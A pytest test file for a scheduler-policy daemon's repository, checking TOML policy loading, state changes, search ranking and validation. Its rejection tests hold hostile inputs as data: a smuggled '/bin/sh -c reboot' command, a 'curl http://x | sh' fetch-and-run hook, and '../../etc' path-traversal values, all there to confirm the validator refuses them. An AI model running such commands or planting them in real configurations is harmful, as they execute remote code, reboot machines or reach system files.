"""The Policy Repository on real SQLite with the real scheduler plugin's validation."""

from __future__ import annotations

import asyncio
import hashlib
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from schedcpd.errors import InvalidArgument, NotFound
from schedcpd.plugins import PluginHost
from schedcpd.repository import Repository, load_directory
from schedcpd.schema import MIGRATIONS
from schedcpd.state import StateStore
from tests.harness import ROOT, STATE_ROOT
from tests.policy.test_documents import assert_names_fields

POLICIES = ROOT / "policies"

SMALL = """
[policy]
name = "tiny"
description = "SCHED_BATCH for the encoder"
workloads = ["video encoding"]

[[group]]
name = "enc"
match = { comm = ["x264"] }
task = { policy = "batch" }
"""


@pytest.fixture(scope="module")
def plugins() -> PluginHost:
    host = PluginHost(load_entry_points=False)
    assert host.records["scheduler"].enabled, host.records["scheduler"].error
    return host


@pytest.fixture
def repo(tmp_path: Path, plugins: PluginHost) -> Iterator[Repository]:
    store = StateStore(tmp_path / "db.sqlite", MIGRATIONS)
    yield Repository(store, lambda s, d: plugins.call_first("schedcp_validate", subsystem=s,
                                                             policy=d), "scheduler")
    store.close()


def run(coro):
    return asyncio.run(coro)


def test_builtins_load_and_are_idempotent(repo: Repository) -> None:
    errors: dict[str, str] = {}
    first = run(load_directory(repo, POLICIES, "builtin", errors, recursive=True))
    assert errors == {}
    assert len(first) >= 6
    assert run(load_directory(repo, POLICIES, "builtin", errors, recursive=True)) == first
    listed = run(repo.search(""))
    assert {p["provenance"] for p in listed} == {"builtin"}
    assert len(listed) == len(first)
    # The T2 schedulers of policies/t2/ are built-ins too.
    t2 = {path.stem for path in (POLICIES / "t2").glob("*.toml")}
    assert t2 and t2 <= {p["name"] for p in listed}, sorted(p["name"] for p in listed)


def test_a_subdirectory_s_files_are_not_retired_by_the_top_level_load(
        repo: Repository, tmp_path: Path) -> None:
    """Loading a directory retires files gone from it; its subdirectory's are not gone."""
    (tmp_path / "t2").mkdir()
    for path in (POLICIES / "latency-protect.toml", POLICIES / "t2" / "scx-vtime.toml"):
        (tmp_path / path.relative_to(POLICIES)).write_text(path.read_text())
    errors: dict[str, str] = {}
    ids = run(load_directory(repo, tmp_path, "builtin", errors, recursive=True))
    assert len(ids) == 2 and errors == {}
    run(load_directory(repo, tmp_path, "builtin", errors, recursive=True))
    assert {p["name"] for p in run(repo.search(""))} == {"latency-protect", "scx-vtime"}


def test_one_callers_submissions_do_not_retire_each_other(repo: Repository) -> None:
    # A user (root here) submits two different policies over D-Bus: both stay
    # usable.  Only a policy *file* that changes retires what it held before.
    first = run(repo.add(SMALL, "user", "uid 0", 0))
    second = run(repo.add(SMALL.replace("x264", "x265"), "user", "uid 0", 0))
    assert first != second
    assert run(repo.get(first))["state"] == "candidate"
    assert run(repo.get(second))["state"] == "candidate"


def test_submit_get_and_states(repo: Repository) -> None:
    pid = run(repo.add(SMALL, "agent", "uid 999", 999))
    assert len(pid) == 64
    got = run(repo.get(pid[:12]))
    assert got["name"] == "tiny" and got["state"] == "candidate" and got["document"] == SMALL
    assert got["provenance"] == "agent" and got["uid"] == 999
    assert run(repo.set_state(pid, "proven"))["state"] == "proven"
    with pytest.raises(InvalidArgument):
        run(repo.set_state(pid, "blessed"))
    with pytest.raises(NotFound):
        run(repo.get("0" * 64))
    with pytest.raises(InvalidArgument):
        run(repo.get("../../etc"))


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("[policy\n", "not valid TOML"),
        ('[policy]\nname = "x"\n', "policy.description"),
        (SMALL.replace('policy = "batch"', 'policy = "turbo"'), "group[0].task.policy"),
        (SMALL.replace('policy = "batch"', "nice = 40"), "group[0].task.nice"),
        (SMALL.replace("[policy]", '[policy]\nsubsystem = "gpu"'), "policy.subsystem"),
        ("x" * 70000, "larger than"),
        # tomllib recurses per level: deep nesting must be a rejection, not a RecursionError.
        ("a = " + "[" * 3000 + "]" * 3000, "nested too deeply"),
        (SMALL.replace('{ policy = "batch" }', "{ a = " * 600 + "1" + " }" * 600),
         "nested too deeply"),
    ],
)
def test_rejections_name_the_field(repo: Repository, text: str, fragment: str) -> None:
    with pytest.raises(InvalidArgument) as info:
        run(repo.add(text, "user", "uid 0"))
    assert fragment in str(info.value)
    assert "uid 0" in str(info.value)


def test_dropins_add_update_retire_and_report_bad_files(repo: Repository,
                                                        tmp_path: Path) -> None:
    dropin = tmp_path / "policies.d"
    dropin.mkdir()
    (dropin / "a.toml").write_text(SMALL)
    (dropin / "bad.toml").write_text(SMALL.replace('"batch"', '"turbo"'))
    errors: dict[str, str] = {}
    [first] = run(load_directory(repo, dropin, "user", errors))
    assert list(errors) == [str(dropin / "bad.toml")]
    assert "group[0].task.policy" in errors[str(dropin / "bad.toml")]
    (dropin / "a.toml").write_text(SMALL.replace("x264", "x265"))
    [second] = run(load_directory(repo, dropin, "user", errors))
    assert run(repo.get(first))["state"] == "retired"
    assert run(repo.get(second))["state"] == "candidate"
    (dropin / "a.toml").unlink()
    (dropin / "bad.toml").unlink()
    run(load_directory(repo, dropin, "user", errors))
    assert run(repo.get(second))["state"] == "retired"
    assert errors == {}
    assert run(repo.search("encoder")) == []
    # A file the TOML parser cannot even recurse through stops nothing either.
    (dropin / "deep.toml").write_text("a = " + "[" * 3000 + "]" * 3000)
    (dropin / "b.toml").write_text(SMALL)
    [third] = run(load_directory(repo, dropin, "user", errors))
    assert list(errors) == [str(dropin / "deep.toml")]
    assert "nested too deeply" in errors[str(dropin / "deep.toml")]
    assert run(repo.get(third))["state"] == "candidate"


def test_dropins_renamed_or_reverted_leave_what_the_files_hold(repo: Repository,
                                                                tmp_path: Path) -> None:
    dropin = tmp_path / "policies.d"
    dropin.mkdir()

    def live() -> dict[str, str]:
        run(load_directory(repo, dropin, "user", {}))
        return {p["id"]: Path(p["source"]).name for p in run(repo.search(""))}

    v1, v2, other = SMALL, SMALL.replace("x264", "x265"), SMALL.replace("x264", "x266")
    (dropin / "a.toml").write_text(v1)
    [first] = live()
    (dropin / "a.toml").write_text(v2)
    [second] = live()
    (dropin / "a.toml").write_text(v1)  # reverted: v1 is live again, v2 is not
    assert live() == {first: "a.toml"}
    (dropin / "a.toml").rename(dropin / "b.toml")  # renamed: still live, from b.toml
    assert live() == {first: "b.toml"}
    (dropin / "c.toml").write_text(other)
    [third] = set(live()) - {first}
    (dropin / "b.toml").rename(dropin / "c.toml")  # moved over c.toml: c's old text is gone
    assert live() == {first: "c.toml"}
    assert {run(repo.get(i))["state"] for i in (second, third)} == {"retired"}


def test_an_admin_retirement_survives_reloads_of_its_file(repo: Repository,
                                                          tmp_path: Path) -> None:
    dropin = tmp_path / "policies.d"
    dropin.mkdir()
    (dropin / "a.toml").write_text(SMALL)
    [pid] = run(load_directory(repo, dropin, "user", {}))
    run(repo.set_state(pid, "retired"))  # the admin withdraws it
    for _ in range(2):  # a reload, an unrelated edit elsewhere in the directory
        run(load_directory(repo, dropin, "user", {}))
        (dropin / "b.toml").write_text(SMALL.replace("x264", "x265"))
    assert run(repo.get(pid))["state"] == "retired"
    assert pid not in {p["id"] for p in run(repo.search(""))}
    # The admin may bring it back; then the file's own changes rule again.
    run(repo.set_state(pid, "candidate"))
    (dropin / "a.toml").write_text(SMALL.replace("x264", "x267"))
    run(load_directory(repo, dropin, "user", {}))
    assert run(repo.get(pid))["state"] == "retired"
    (dropin / "a.toml").write_text(SMALL)
    run(load_directory(repo, dropin, "user", {}))
    assert run(repo.get(pid))["state"] == "candidate"


def test_history_and_antipatterns(repo: Repository) -> None:
    pid = run(repo.add(SMALL, "user", "uid 0"))
    run(repo.record_outcome(pid, "dep-1", "active", {"wake_p99_ratio": 0.02}))
    run(repo.record_antipattern(pid, "latency probe + hog", "hog_throughput", 0.3, "starved"))
    hist = run(repo.history(pid))
    assert hist["outcomes"][0]["metrics"] == {"wake_p99_ratio": 0.02}
    assert hist["antipatterns"][0]["metric"] == "hog_throughput"


# Workload descriptions an agent might write, and the built-in that should rank first.
SEARCHES = [
    ("kernel compile with make -j", "parallel-build"),
    ("latency-sensitive web server next to a batch job", "latency-protect"),
    ("long tail batch jobs, one job runs much longer than the others", "long-job-first"),
    ("CPU-bound compression and video encoding throughput", "batch-throughput"),
    ("desktop feels sluggish while something compiles in the background", "interactive-boost"),
    ("noisy neighbour stealing CPU from a database, isolate it on its own cores",
     "noisy-neighbour-cpuset"),
    ("audio playback glitches, needs real-time priority", "rt-audio"),
    ("put the whole batch job cgroup at idle so the service keeps its latency",
     "latency-protect-cgroup"),
    ("reduce the makespan of a parallel build with many short-lived compiler processes",
     "parallel-build"),
    ("interactive terminal responsiveness under load", "interactive-boost"),
]


def test_search_quality(repo: Repository) -> None:
    run(load_directory(repo, POLICIES, "builtin", {}))
    names = {p["name"] for p in run(repo.search(""))}
    hits = []
    for query, expected in SEARCHES:
        assert expected in names, f"no built-in {expected}"
        ranked = [p["name"] for p in run(repo.search(query))]
        hits.append(ranked[:1] == [expected])
        print(f"{query!r}: {ranked[:3]}")
    assert sum(hits) >= 8, hits


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=400))
def test_random_documents_never_crash_and_name_a_field(text: str) -> None:
    host = PluginHost(load_entry_points=False)
    import tempfile

    with tempfile.TemporaryDirectory(dir=STATE_ROOT) as d:  # tmpfs: 150 databases
        store = StateStore(Path(d) / "db.sqlite", MIGRATIONS)
        repo = Repository(store, lambda s, doc: host.call_first(
            "schedcp_validate", subsystem=s, policy=doc), "scheduler")
        try:
            run(repo.add(text, "user", "uid 0"))
        except InvalidArgument as err:
            # Not TOML: the parser's position; TOML: the field (tests/policy/test_documents.py).
            if "not valid TOML" in str(err):
                assert re.search(r"\(at line \d+, column \d+\)|at end of document"
                                 r"|nested too deeply", str(err))
            else:
                assert_names_fields(str(err), "uid 0")
        finally:
            store.close()
        assert host.records["scheduler"].enabled  # the plugin never raised


def test_metadata_is_stored_from_the_document(repo: Repository) -> None:
    text = (POLICIES / "batch-throughput.toml").read_text()
    got = run(repo.get(run(repo.add(text, "builtin", str(POLICIES / "batch-throughput.toml")))))
    assert got["name"] == "batch-throughput" and got["subsystem"] == "scheduler"
    assert got["track"] == "T1" and got["provenance"] == "builtin"
    assert got["workloads"] and got["tags"]
    assert got["parameters"]["nice"] == {"field": "group[0].task.nice", "min": 0, "max": 19,
                                         "default": 5, "description": "nice of the batch tasks"}
    assert got["id"] == hashlib.sha256(text.encode()).hexdigest()


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        # Stage 1: nothing outside the allow-list, so no free-form command anywhere...
        (SMALL.replace('task = { policy = "batch" }',
                       'task = { policy = "batch" }\nexec = "/bin/sh -c reboot"'),
         "group[0].exec: unknown key"),
        (SMALL + '\n[hooks]\npre_start = "curl http://x | sh"\n', "hooks: unknown key"),
        # ...and a cgroup path must stay inside the cgroup tree.
        (SMALL.replace('comm = ["x264"]', 'cgroup = "/../../etc"'), "group[0].match.cgroup: "),
        (SMALL.replace('comm = ["x264"]', 'cgroup = "user.slice"'), "group[0].match.cgroup: "),
        (SMALL.replace('{ policy = "batch" }', '{ policy = "fifo", rt_priority = 10 }'),
         "group[0].task.policy: fifo/rr need safety.allow_realtime"),
        (SMALL + '\n[parameters.n]\nfield = "group[0].task.policy"\nmin = 5\nmax = 1\n',
         "parameters.n.min: 5 is above max 1"),
        (SMALL + '\n[parameters."odd key"]\nfield = "nowhere"\n',
         'parameters."odd key".field: '),
        (SMALL.replace("[policy]", '[policy]\ntags = "one"'), "policy.tags: must be a list"),
    ],
)
def test_schema_stage_rejects_by_field(repo: Repository, text: str, fragment: str) -> None:
    with pytest.raises(InvalidArgument) as info:
        run(repo.add(text, "user", "uid 0"))
    assert f"uid 0: {fragment}" in str(info.value)


def test_size_limits_of_documents_and_artifacts(repo: Repository) -> None:
    # A T2 policy carries its artifact (the BPF scheduler's C source) in [scx] source.
    t2 = '[policy]\nname = "big"\ndescription = "d"\ntrack = "T2"\n[scx]\nsource = """\n{}\n"""\n'
    with pytest.raises(InvalidArgument, match=r"uid 0: scx.source: longer than 49152 bytes"):
        run(repo.add(t2.format("/* x */\n" * 6200), "user", "uid 0"))
    with pytest.raises(InvalidArgument, match=r"uid 0: policy is larger than 65536 bytes"):
        run(repo.add(t2.format("/* x */\n" * 8300), "user", "uid 0"))
